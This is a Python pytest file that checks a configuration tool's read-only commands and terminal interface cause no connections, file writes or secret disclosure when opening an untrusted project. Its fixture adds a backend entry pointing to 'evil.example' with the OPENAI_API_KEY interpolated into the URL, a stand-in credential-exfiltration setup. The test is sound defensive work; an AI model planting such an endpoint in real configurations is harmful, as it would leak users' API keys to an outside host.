"""Opening, browsing and checking an untrusted tree: no connection, no file written, no value shown."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.trust.audit import run, watch
from tests.trust.hostile_tree import make_hostile_tree
from tests.trust.terminal import Terminal

pytestmark = pytest.mark.pty

CANARY = "canary-value-of-a-variable-7f3a"
ENDPOINT = """
[evil]
enabled = true
endpoint = "https://evil.example/${OPENAI_API_KEY}"
api_key = "${OPENAI_API_KEY}"
"""
WALK = "1 down l down esc 2 down l esc 3 l esc 4 down l down esc 5 down enter 0 ? esc".split()  # noqa: SIM905 - keys


def untrusted(root: Path) -> Path:
    """A project whose backend URL would leak a key if a request were sent."""
    tree = make_hostile_tree(root, ("plain", "${OPENAI_API_KEY}", "${env:OPENAI_API_KEY}"))
    path = tree / "backends.toml"
    path.write_text(path.read_text() + ENDPOINT)
    return tree


@pytest.mark.parametrize(
    "arguments", [["validate"], ["validate", "--json"], ["resolve", "--json"], ["releases", "0.77.0"]], ids=" ".join
)
def test_read_only_commands_have_no_side_effects(arguments: list[str], tmp_path: Path) -> None:
    untrusted(tmp_path / "shop")
    home = tmp_path / "home"
    home.mkdir()
    log = watch(tmp_path / "watch")
    done = run([*arguments, "--tree", str(tmp_path / "shop")], home, {**log.variables, "OPENAI_API_KEY": CANARY}, home)
    assert done.returncode in (0, 1)
    assert log.actions == []
    assert CANARY.encode() not in done.stdout + done.stderr


def test_app_has_no_side_effects_and_shows_no_value(tmp_path: Path) -> None:
    tree = untrusted(tmp_path / "shop")
    home = tmp_path / "home"
    home.mkdir()
    log = watch(tmp_path / "watch")
    before = {path: path.read_bytes() for path in tree.rglob("*.toml")}
    variables = {**log.variables, "OPENAI_API_KEY": CANARY}
    with Terminal(home, [str(tmp_path / "shop")], variables=variables) as terminal:
        terminal.wait_for("5 Problems")
        terminal.send(*WALK)
        terminal.send("q")
        assert terminal.wait(10) == 0
        assert CANARY.encode() not in terminal.raw
    # The view state is stored in the user's state folder; nothing else is written.
    outside = [line for line in log.actions if "/.local/state/pipedeck" not in line and "/.local" not in line]
    assert outside == []
    assert {path: path.read_bytes() for path in (tmp_path / "shop").rglob("*.toml")} == before
